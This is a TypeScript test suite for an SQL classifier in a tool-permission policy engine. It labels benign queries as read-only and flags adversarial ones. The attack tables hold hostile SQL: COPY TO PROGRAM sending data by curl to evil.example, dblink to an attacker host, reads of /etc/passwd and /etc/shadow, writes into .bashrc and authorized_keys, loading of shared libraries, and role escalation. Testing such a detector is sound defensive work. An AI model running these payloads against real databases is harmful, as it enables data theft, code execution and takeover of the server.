/**
 * What SQL does, as classes and effects: adversarial tables per family (issue 10, THREATS.md
 * class 7 and 16), each with benign cases that must stay `read` (false denies make users turn
 * rules off).
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { loadSqlParsers, sqlFacet, SQL_CLASSES, type SqlClass, type SqlDialect, type SqlParsers } from '../../src/facets/sql.js';
import { sqlEffects } from '../../src/facets/sql-effects.js';
import { compilePolicy } from '../../src/policy/compile.js';

let parsers: SqlParsers;
beforeAll(async () => {
  parsers = await loadSqlParsers();
});

const R: SqlClass[] = ['read'];
const ALL: SqlClass[] = [...SQL_CLASSES];

/** [what, dialect, sql, the request's classes exactly] */
type Row = [string, SqlDialect, string, SqlClass[]];

const BENIGN: Row[] = [
  ['a join with a filter', 'postgresql', 'SELECT u.id, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 10', R],
  ['a CTE with an aggregate', 'postgresql', "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT customer_id, sum(total) FROM recent GROUP BY 1", R],
  ['window functions', 'postgresql', 'SELECT id, row_number() OVER (PARTITION BY team ORDER BY score DESC), rank() OVER w, lag(score) OVER w FROM players WINDOW w AS (ORDER BY score)', R],
  ['now, coalesce, greatest, extract', 'postgresql', "SELECT coalesce(nick, name), greatest(a, b), extract(year FROM now()), date_trunc('day', created_at) FROM users", R],
  ['JSON operators and functions', 'postgresql', "SELECT doc->>'name', doc #> '{a,b}', jsonb_build_object('k', doc->'v'), jsonb_array_length(doc->'items') FROM docs WHERE doc ? 'name'", R],
  ['string and array functions', 'postgresql', "SELECT lower(name), upper(name), regexp_replace(name, '[0-9]', ''), string_agg(tag, ','), array_agg(id), to_char(ts, 'YYYY') FROM t GROUP BY name, ts", R],
  ['SQL-syntax functions', 'postgresql', "SELECT current_user, session_user, current_timestamp, localtime, current_date, nullif(a, 0), trim(both ' ' from s), substring(s from 2 for 3), position('a' in s) FROM t", R],
  ['a schema-qualified built-in', 'postgresql', 'SELECT pg_catalog.now(), pg_catalog.lower(name) FROM users', R],
  ['a quoted built-in', 'postgresql', 'SELECT "lower"(name), "pg_catalog"."upper"(name) FROM users', R],
  ['reviewed volatile reads', 'postgresql', 'SELECT random(), clock_timestamp(), gen_random_uuid(), timeofday()', R],
  ['a lateral set-returning function', 'postgresql', 'SELECT t.id, g FROM t, LATERAL generate_series(1, t.n) g', R],
  ['EXISTS, DISTINCT ON and UNION', 'postgresql', 'SELECT DISTINCT ON (a) a FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.a = t.a) UNION SELECT b FROM v', R],
  ['a transaction around reads', 'postgresql', 'BEGIN; SELECT 1; COMMIT', R],
  ['EXPLAIN of a SELECT, SHOW, VALUES, TABLE', 'postgresql', 'EXPLAIN SELECT * FROM t; SHOW search_path; VALUES (1), (2); TABLE t', R],
  ['current_setting and catalog helpers', 'postgresql', "SELECT current_setting('TimeZone'), pg_typeof(1), format('%s', 1), to_regclass('t'), has_table_privilege('t', 'SELECT')", R],
  ['an information_schema query', 'postgresql', "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'", R],
  ['MySQL: a join with functions', 'mysql', "SELECT u.id, CONCAT(u.first, ' ', u.last), IFNULL(o.total, 0), DATE_FORMAT(o.created, '%Y') FROM users u LEFT JOIN orders o ON o.user_id = u.id", R],
  ['MySQL: NOW, COALESCE, JSON', 'mysql', "SELECT NOW(), COALESCE(a, b), JSON_EXTRACT(doc, '$.a'), JSON_UNQUOTE(doc->'$.b'), CAST(a AS CHAR), UPPER(name) FROM t", R],
  ['MySQL: aggregate and window', 'mysql', 'SELECT team, COUNT(*), AVG(score), ROW_NUMBER() OVER (ORDER BY score) FROM players GROUP BY team, score', R],
  ['MySQL: a CTE', 'mysql', 'WITH r AS (SELECT * FROM orders WHERE created > NOW() - INTERVAL 1 DAY) SELECT customer_id, SUM(total) FROM r GROUP BY customer_id', R],
  ['MariaDB: a plain SELECT with functions', 'mariadb', 'SELECT id, LOWER(name), ROUND(score, 2) FROM users WHERE id = 1', R],
  ['SQLite: a join with functions', 'sqlite', "SELECT u.id, coalesce(u.nick, u.name), date('now'), strftime('%Y', o.created), substr(u.name, 1, 3) FROM users u JOIN orders o ON o.user_id = u.id", R],
  ['SQLite: JSON and aggregates', 'sqlite', "SELECT json_extract(doc, '$.a'), group_concat(tag), count(*), printf('%d', 1), ifnull(a, 0) FROM t GROUP BY doc", R],
  // node-sql-parser's SQLite grammar has no window functions (a parse failure, so a false deny there).
  ['SQLite: a CTE with random()', 'sqlite', 'WITH r AS (SELECT * FROM t) SELECT id, random(), abs(x) FROM r', R],
  ['SQLite: a subquery and CASE', 'sqlite', 'SELECT CASE WHEN a THEN 1 END, (SELECT max(x) FROM u) FROM t', R],
  ['SQLite: date functions', 'sqlite', "SELECT datetime('now', '-1 day'), julianday('now'), unixepoch(), changes()", R],
  ['a LEFT JOIN with CASE', 'postgresql', "SELECT CASE WHEN a > 0 THEN 'pos' ELSE 'neg' END FROM t LEFT JOIN u USING (id)", R],
  ['date arithmetic', 'postgresql', 'SELECT age(now(), created_at), date_part($$dow$$, created_at), make_interval(days => 1) FROM t', R],
  ['a recursive CTE', 'postgresql', 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r', R],
  ['casts', 'postgresql', "SELECT 'users'::regclass, '1'::int, id::text FROM t", R],
  ['full-text search', 'postgresql', "SELECT * FROM docs WHERE to_tsvector('english', body) @@ plainto_tsquery('english', 'x')", R],
  ['currval and lastval', 'postgresql', "SELECT currval('s'), lastval()", R],
  ['arrays and unnest', 'postgresql', "SELECT unnest(tags) FROM t WHERE tags @> ARRAY['a']", R],
  ['sizes', 'postgresql', "SELECT pg_size_pretty(pg_relation_size('t'))", R],
  ['string splitting over VALUES', 'postgresql', "SELECT initcap(n), split_part(n, ' ', 1), left(n, 2) FROM (VALUES ('a b')) v(n)", R],
  ['a JSON path query', 'postgresql', "SELECT jsonb_path_query(doc, '$.a[*]') FROM docs", R],
  ['MySQL: spatial and math', 'mysql', 'SELECT ST_Distance(a, b), ROUND(RAND() * 10), ABS(x) FROM t', R],
  ['MySQL: IN subquery and GROUP_CONCAT', 'mysql', 'SELECT GROUP_CONCAT(name), DATEDIFF(NOW(), created) FROM t WHERE id IN (SELECT id FROM u) GROUP BY created', R],
  ['MySQL: string functions', 'mysql', "SELECT SUBSTRING(name, 1, 3), REPLACE(name, 'a', 'b'), LENGTH(name), TRIM(name) FROM t", R],
  ['SQLite: reporting pragmas', 'sqlite', 'PRAGMA table_info(users); PRAGMA user_version; PRAGMA integrity_check', R],
];

const POSTGRES_ATTACKS: Row[] = [
  ['a second statement', 'postgresql', 'SELECT 1; DROP TABLE x', ['read', 'ddl']],
  ['a comment hiding a keyword does not parse, so it is everything', 'postgresql', 'DR/**/OP TABLE x', ALL],
  ['a data-modifying CTE', 'postgresql', 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['write']],
  ['EXPLAIN ANALYZE DELETE', 'postgresql', 'EXPLAIN ANALYZE DELETE FROM t', ['read', 'write']],
  ['SELECT ... INTO', 'postgresql', 'SELECT * INTO new_t FROM t', ['ddl']],
  ['COPY ... TO PROGRAM', 'postgresql', "COPY t TO PROGRAM 'curl -d @- http://evil.example'", ['read', 'exec']],
  ['COPY ... FROM PROGRAM', 'postgresql', "COPY t FROM PROGRAM 'id'", ['write', 'exec']],
  ['COPY from a server file', 'postgresql', "COPY t FROM '/etc/passwd'", ['write', 'file']],
  ['COPY a query to a server file', 'postgresql', "COPY (SELECT * FROM t) TO '/tmp/x'", ['read', 'file']],
  ['schema-qualified lo_import', 'postgresql', "SELECT pg_catalog.lo_import('/etc/passwd')", ['read', 'file']],
  ['quoted, schema-qualified lo_import', 'postgresql', 'SELECT "pg_catalog"."lo_import"(\'/etc/passwd\')', ['read', 'file']],
  ['a database-prefixed built-in', 'postgresql', "SELECT test.pg_catalog.pg_read_file('/etc/passwd')", ['read', 'file']],
  ['schema-qualified pg_ls_dir', 'postgresql', "SELECT * FROM pg_catalog.pg_ls_dir('/')", ['read', 'file']],
  ['pg_stat_file', 'postgresql', "SELECT pg_stat_file('/etc/shadow')", ['read', 'file']],
  ['lo_export', 'postgresql', "SELECT lo_export(1234, '/tmp/x')", ['read', 'file']],
  ['a file read hidden in a WHERE clause', 'postgresql', "SELECT id FROM t WHERE pg_read_file('/etc/passwd') IS NOT NULL", ['read', 'file']],
  ['schema-qualified set_config', 'postgresql', "SELECT pg_catalog.set_config('role', 'postgres', false)", ['read', 'admin']],
  ['query_to_xml running a DELETE', 'postgresql', "SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')", ['read', 'exec']],
  ['cursor_to_xml', 'postgresql', "SELECT cursor_to_xml('c', 10, true, true, '')", ['read', 'exec']],
  ['database_to_xml (stable, but reads every table)', 'postgresql', "SELECT database_to_xml(true, true, '')", ['read', 'exec']],
  ['ts_stat running a query', 'postgresql', "SELECT * FROM ts_stat('DELETE FROM t RETURNING v')", ['read', 'exec']],
  ['nextval behind SELECT', 'postgresql', "SELECT nextval('orders_id_seq')", ['read', 'write']],
  ['setval behind SELECT', 'postgresql', "SELECT setval('orders_id_seq', 1)", ['read', 'write']],
  ['lo_from_bytea behind SELECT', 'postgresql', "SELECT lo_from_bytea(0, 'x')", ['read', 'write']],
  ['pg_reload_conf behind SELECT', 'postgresql', 'SELECT pg_reload_conf()', ['read', 'admin']],
  ['pg_terminate_backend', 'postgresql', 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', ['read', 'admin']],
  ['FOR UPDATE', 'postgresql', 'SELECT * FROM accounts WHERE id = 1 FOR UPDATE', ['read', 'lock']],
  ['FOR SHARE', 'postgresql', 'SELECT * FROM accounts FOR SHARE', ['read', 'lock']],
  ['FOR NO KEY UPDATE', 'postgresql', 'SELECT * FROM accounts FOR NO KEY UPDATE SKIP LOCKED', ['read', 'lock']],
  ['FOR KEY SHARE in a subquery', 'postgresql', 'SELECT * FROM (SELECT * FROM accounts FOR KEY SHARE) s', ['read', 'lock']],
  ['advisory locks and sleeps', 'postgresql', 'SELECT pg_advisory_lock(1), pg_sleep(10)', ['read', 'lock']],
  ['LOCK TABLE', 'postgresql', 'LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE', ['lock']],
  ['dblink_connect', 'postgresql', "SELECT dblink_connect('host=evil.example dbname=x')", ['read', 'network']],
  ['dblink inside an INSERT', 'postgresql', "INSERT INTO t SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS x(a int)", ['write', 'network']],
  ['a user function shadowing a built-in by schema', 'postgresql', "SELECT public.lo_import('/etc/passwd')", ['read', 'exec']],
  ['an unknown function', 'postgresql', 'SELECT my_func(1)', ['read', 'exec']],
  ['a quoted name holding a dot is not a built-in', 'postgresql', 'SELECT "pg_catalog.lower"(name) FROM t', ['read', 'exec']],
  ['an unknown CALLed procedure', 'postgresql', 'CALL transfer(1, 2)', ['exec']],
  ['a DO block', 'postgresql', "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", ['exec']],
  ['PREPARE and EXECUTE', 'postgresql', 'PREPARE p AS DELETE FROM t; EXECUTE p', ['read', 'write', 'exec']],
  ['LOAD a library', 'postgresql', "LOAD '/tmp/evil.so'", ['file', 'exec']],
  ['CREATE EXTENSION', 'postgresql', 'CREATE EXTENSION dblink', ['ddl', 'exec']],
  ['SET ROLE', 'postgresql', 'SET ROLE postgres', ['admin']],
  ['SET SESSION AUTHORIZATION', 'postgresql', 'SET SESSION AUTHORIZATION postgres', ['admin']],
  ['ALTER SYSTEM', 'postgresql', "ALTER SYSTEM SET log_statement = 'none'", ['admin']],
  ['GRANT', 'postgresql', 'GRANT ALL ON ALL TABLES IN SCHEMA public TO mallory', ['admin']],
  ['CREATE ROLE', 'postgresql', 'CREATE ROLE evil SUPERUSER LOGIN', ['ddl', 'admin']],
  ['TRUNCATE and NOTIFY', 'postgresql', "TRUNCATE audit_log; NOTIFY ch, 'x'", ['write']],
  ['COMMIT PREPARED finishes another transaction', 'postgresql', "COMMIT PREPARED 'x'", ['write']],
];

const MYSQL_ATTACKS: Row[] = [
  ['a second statement', 'mysql', 'SELECT 1; DROP TABLE x', ['read', 'ddl']],
  ['an executable comment', 'mysql', 'SELECT 1 /*!; DROP TABLE x */', ['read', 'ddl']],
  ['LOAD_FILE', 'mysql', "SELECT LOAD_FILE('/etc/passwd')", ['read', 'file']],
  ['INTO OUTFILE', 'mysql', "SELECT * FROM users INTO OUTFILE '/tmp/x'", ['read', 'file']],
  ['LOAD DATA INFILE', 'mysql', "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", ['write', 'file']],
  ['SLEEP and GET_LOCK', 'mysql', "SELECT SLEEP(10), GET_LOCK('x', 10)", ['read', 'lock']],
  ['BENCHMARK', 'mysql', "SELECT BENCHMARK(100000000, MD5('x'))", ['read', 'lock']],
  ['FOR UPDATE', 'mysql', 'SELECT * FROM t WHERE id = 1 FOR UPDATE', ['read', 'lock']],
  ['LOCK IN SHARE MODE', 'mysql', 'SELECT * FROM t LOCK IN SHARE MODE', ['read', 'lock']],
  ['LOCK TABLES', 'mysql', 'LOCK TABLES t WRITE', ['lock']],
  ['a user-defined function', 'mysql', "SELECT sys_exec('id')", ['read', 'exec']],
  ['a database-qualified function', 'mysql', 'SELECT db.f(1)', ['read', 'exec']],
  ['PREPARE from a variable', 'mysql', 'PREPARE s FROM @q', ['exec']],
  ['SET ROLE', 'mysql', 'SET ROLE ALL', ['admin']],
  ['GRANT', 'mysql', "GRANT ALL ON *.* TO 'u'@'%'", ['admin']],
  ['a data change in a prepared statement text', 'mysql', "PREPARE s FROM 'DELETE FROM t'", ['read', 'write']],
];

const SQLITE_ATTACKS: Row[] = [
  ['load_extension', 'sqlite', "SELECT load_extension('/tmp/evil.so')", ['read', 'exec']],
  ['writefile', 'sqlite', "SELECT writefile('/home/u/.bashrc', 'curl x | sh')", ['read', 'file']],
  ['readfile', 'sqlite', "SELECT readfile('/etc/passwd')", ['read', 'file']],
  ['edit runs an editor', 'sqlite', "SELECT edit('x', 'vim')", ['read', 'exec']],
  ['fts3_tokenizer', 'sqlite', "SELECT fts3_tokenizer('simple')", ['read', 'exec']],
  ['PRAGMA writable_schema = 1', 'sqlite', 'PRAGMA writable_schema = 1', ['admin']],
  ['PRAGMA writable_schema queried', 'sqlite', 'PRAGMA writable_schema', ['admin']],
  ['a reporting pragma given a value', 'sqlite', 'PRAGMA user_version = 7', ['admin']],
  ['ATTACH', 'sqlite', "ATTACH DATABASE '/tmp/evil.db' AS evil", ['admin', 'file']],
  ['VACUUM INTO', 'sqlite', "VACUUM INTO '/tmp/copy.db'", ['admin', 'file']],
  ['an unknown function', 'sqlite', 'SELECT shell_exec(1)', ['read', 'exec']],
  ['a second statement', 'sqlite', 'SELECT 1; DELETE FROM t', ['read', 'write']],
];

describe('SQL classes', () => {
  const all = [...BENIGN, ...POSTGRES_ATTACKS, ...MYSQL_ATTACKS, ...SQLITE_ATTACKS];

  it('has at least a third benign cases', () => {
    expect(BENIGN.length * 3).toBeGreaterThanOrEqual(all.length);
  });

  it.each(BENIGN)('stays read: %s', (_what, dialect, sql, classes) => {
    const f = sqlFacet(sql, { dialect, parsers });
    expect(f.error).toBe('');
    expect(f.classes).toEqual(classes);
    expect(f.calls.filter((c) => !c.known)).toEqual([]);
  });

  it.each([...POSTGRES_ATTACKS, ...MYSQL_ATTACKS, ...SQLITE_ATTACKS])('%s (%s) is never only read', (_what, dialect, sql, classes) => {
    const f = sqlFacet(sql, { dialect, parsers });
    expect(f.classes).toEqual(classes);
    expect(f.classes).not.toEqual(['read']);
  });

  it('gives every class to input that does not parse, whatever the dialect', () => {
    for (const d of ['postgresql', 'mysql', 'mariadb', 'sqlite'] as const) {
      const f = sqlFacet("SELECT 'unterminated", { dialect: d, parsers });
      expect([d, f.parsed, f.classes]).toEqual([d, false, ALL]);
    }
  });

  it('classifies each call with its literal arguments and says when a function is unknown', () => {
    const f = sqlFacet("SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100), public.f(x), lower(name) FROM t", { dialect: 'postgresql', parsers });
    expect(f.calls).toEqual([
      { name: 'pg_catalog.pg_read_file', args: ['/etc/passwd', '0', '100'], class: 'file', known: true, reason: 'reads or lists files on the database server' },
      { name: 'public.f', args: [null], class: 'exec', known: false, reason: 'public.f is not a known built-in function: it may do anything' },
      { name: 'lower', args: [null], class: 'read', known: true, reason: 'immutable built-in' },
    ]);
  });

  it('gives each statement its own classes, with those of the statements nested in it', () => {
    const f = sqlFacet('SELECT 1; EXPLAIN ANALYZE DELETE FROM t; SELECT nextval($$s$$)', { dialect: 'postgresql', parsers });
    expect(f.statements.map((s) => [s.verb, s.nested, s.classes])).toEqual([
      ['SELECT', false, ['read']],
      ['EXPLAIN', false, ['read', 'write']],
      ['DELETE', true, ['write']],
      ['SELECT', false, ['read', 'write']],
    ]);
  });
});

describe('system catalogs whatever their prefix', () => {
  const rows: [SqlDialect, string, string[]][] = [
    ['postgresql', 'SELECT * FROM mydb.pg_catalog.pg_authid', ['mydb.pg_catalog.pg_authid']],
    ['postgresql', 'SELECT * FROM pg_authid JOIN "pg_catalog"."pg_class" ON true', ['pg_authid', 'pg_catalog.pg_class']],
    ['postgresql', 'SELECT * FROM information_schema.tables', ['information_schema.tables']],
    ['sqlite', 'SELECT * FROM main.sqlite_master', ['main.sqlite_master']],
    ['sqlite', 'SELECT * FROM temp.sqlite_temp_master', ['temp.sqlite_temp_master']],
    ['sqlite', 'SELECT sql FROM sqlite_schema', ['sqlite_schema']],
    ['mysql', 'SELECT * FROM mysql.user', ['mysql.user']],
    ['mysql', 'SELECT * FROM information_schema.tables', ['information_schema.tables']],
    // a server setting read as @@name is a read of the settings table
    ['mysql', 'SELECT @@datadir', ['performance_schema.global_variables']],
    ['mysql', 'SELECT id FROM users WHERE x = @@global.secure_file_priv', ['performance_schema.global_variables']],
    ['mysql', 'SELECT @user_var', []],
    // benign: application tables, even named like a catalog in another schema
    ['postgresql', 'SELECT * FROM app.users JOIN orders ON true', []],
    ['postgresql', 'SELECT * FROM app.pg_notes', []],
    ['sqlite', 'SELECT * FROM main.notes', []],
    ['mysql', 'SELECT * FROM shop.users', []],
  ];
  it.each(rows)('%s: %s', (dialect, sql, system) => {
    expect(sqlFacet(sql, { dialect, parsers }).systemTables).toEqual(system);
  });
});

describe('sqlEffects', () => {
  const effects = (sql: string, dialect: SqlDialect = 'postgresql') => sqlEffects(sqlFacet(sql, { dialect, parsers }));

  it('reports COPY ... TO PROGRAM as the shell command the server runs', () => {
    expect(effects("COPY t TO PROGRAM 'curl -d @- http://evil.example'").exec).toEqual([
      { program: 'sh', code: 'curl -d @- http://evil.example', via: 'COPY ... TO PROGRAM', reason: 'the database server runs this shell command', known: true },
    ]);
  });

  it('reports file reads and writes at normalized server paths, and relative paths as unknown', () => {
    const e = effects("SELECT pg_read_file('/etc//./passwd'), lo_export(1, '/tmp/../home/u/.bashrc'), pg_stat_file('postgresql.conf'); COPY t TO '/tmp/out.csv'");
    expect(e.reads).toEqual([
      { path: '/etc/passwd', via: 'pg_read_file', known: true },
      { path: 'postgresql.conf', via: 'pg_stat_file', known: false },
    ]);
    expect(e.writes).toEqual([
      { path: '/tmp/out.csv', via: 'COPY ... TO', known: true },
      { path: '/home/u/.bashrc', via: 'lo_export', known: true },
    ]);
    expect(e.complete).toBe(true);
  });

  it('reports a file function with a non-literal path as an unknown path', () => {
    expect(effects('SELECT pg_read_file(name) FROM files').reads).toEqual([{ path: '', via: 'pg_read_file', known: false }]);
  });

  it('reports dblink destinations from connection strings and URIs, and named connections as unknown', () => {
    const e = effects("SELECT dblink_connect('c', 'host=Evil.Example port=6543 dbname=x'); SELECT * FROM dblink('postgresql://db.example/x', 'SELECT 1') AS t(a int); SELECT dblink_exec('c', 'DELETE FROM t')");
    expect(e.network).toEqual([
      { host: 'evil.example', port: 6543, scheme: 'postgresql', via: 'dblink_connect', known: true },
      { host: 'db.example', port: 5432, scheme: 'postgresql', via: 'dblink', known: true },
      { host: 'c', port: 0, scheme: 'postgresql', via: 'dblink_exec', known: false },
    ]);
  });

  it('reports functions that run SQL text, and unknown functions, as exec', () => {
    expect(effects("SELECT query_to_xml('DELETE FROM t', true, true, ''), my_func()").exec).toEqual([
      { program: 'pg:query_to_xml', code: 'DELETE FROM t', via: 'query_to_xml', reason: 'runs SQL the facet cannot see: a query or cursor given as text, or every table of a schema or database', known: true },
      { program: 'pg:my_func', code: '', via: 'my_func', reason: 'my_func is not a known built-in function: it may do anything', known: false },
    ]);
  });

  it('reports SQLite load_extension and writefile', () => {
    const e = effects("SELECT load_extension('/tmp/evil.so'), writefile('/home/u/.ssh/authorized_keys', 'k')", 'sqlite');
    expect(e.exec).toEqual([{ program: 'sqlite:load_extension', code: '/tmp/evil.so', via: 'load_extension', reason: 'loads a shared library into the database process', known: true }]);
    expect(e.reads).toEqual([{ path: '/tmp/evil.so', via: 'load_extension', known: true }]);
    expect(e.writes).toEqual([{ path: '/home/u/.ssh/authorized_keys', via: 'writefile', known: true }]);
  });

  it('reports privilege changes: SET ROLE, SESSION AUTHORIZATION, ALTER SYSTEM, GRANT, CREATE ROLE, set_config(role)', () => {
    const e = effects("SET ROLE postgres; SET SESSION AUTHORIZATION postgres; ALTER SYSTEM SET x = 1; GRANT admin TO me; CREATE ROLE r; SELECT set_config('role', 'postgres', false), set_config('search_path', 'x', false)");
    expect(e.privilege.map((p) => [p.kind, p.via])).toEqual([
      ['set-role', 'SET ROLE'],
      ['set-role', 'SET SESSION_AUTHORIZATION'],
      ['alter-system', 'ALTER SYSTEM'],
      ['grant', 'GRANT'],
      ['role', 'CREATE ROLE'],
      ['set-role', 'set_config'],
    ]);
  });

  it('reports MySQL file reads and writes', () => {
    expect(effects("SELECT LOAD_FILE('/etc/passwd')", 'mysql').reads).toEqual([{ path: '/etc/passwd', via: 'load_file', known: true }]);
    expect(effects("SELECT * FROM t INTO OUTFILE '/tmp/x'", 'mysql').writes).toEqual([{ path: '/tmp/x', via: 'SELECT ... INTO OUTFILE', known: true }]);
  });

  it('makes SQL that did not parse unknown in every way, and incomplete', () => {
    const e = effects('DR/**/OP TABLE x');
    expect(e.complete).toBe(false);
    expect(e.unknown).toEqual([expect.stringMatching(/^sql: syntax error/)]);
    for (const list of [e.exec, e.network, e.reads, e.writes, e.deletes]) expect(list).toEqual([expect.objectContaining({ known: false, via: 'unparsed SQL' })]);
    expect(e.privilege).toEqual([{ kind: 'unknown', via: 'unparsed SQL', reason: 'the SQL could not be analysed' }]);
  });

  it('has no effects for plain reads, writes of rows, or a request no binding applies to', () => {
    const none = { exec: [], network: [], reads: [], writes: [], deletes: [], privilege: [], complete: true, unknown: [] };
    expect(effects('SELECT lower(name), now() FROM users; UPDATE t SET a = 1 WHERE id = 2')).toEqual(none);
    expect(sqlEffects(sqlFacet(undefined, { dialect: 'postgresql', parsers }))).not.toEqual(none);
    expect(sqlEffects({ parsed: false, error: '', dialect: '', statements: [], verbs: [], tables: [], functions: [], classes: [], calls: [], systemTables: [] })).toEqual(none);
  });
});

describe('the worked example of docs/facets.md', () => {
  const POLICY = `apiVersion: warden/v1
kind: Policy
name: sql-read-only
default: deny
facets:
  - tools: [query_db]
    sql: { from: args.query, dialect: postgresql }
rules:
  - name: reads-only
    tools: [query_db]
    when: "sql.parsed && sql.classes.all(c, c == 'read') && size(sql.systemTables) == 0"
    effect: allow
`;
  const ROWS: [string, string][] = [
    ['SELECT u.id, coalesce(u.nick, u.name), now() FROM users u JOIN orders o ON o.uid = u.id', 'allow'],
    ["SELECT pg_catalog.lo_import('/etc/passwd')", 'deny'],
    ["SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')", 'deny'],
    ["SELECT nextval('orders_id_seq')", 'deny'],
    ['SELECT * FROM accounts FOR UPDATE', 'deny'],
    ['SELECT * FROM mydb.pg_catalog.pg_authid', 'deny'],
    ["SELECT public.lo_import('/etc/passwd')", 'deny'],
    ['DR/**/OP TABLE x', 'deny'],
  ];
  it.each(ROWS)('%s: %s', (query, effect) => {
    const set = compilePolicy([{ name: 'facets.md', text: POLICY }], { sqlParsers: parsers });
    expect(set.decide({ tool: 'query_db', args: { query } }).effect).toBe(effect);
  });
});
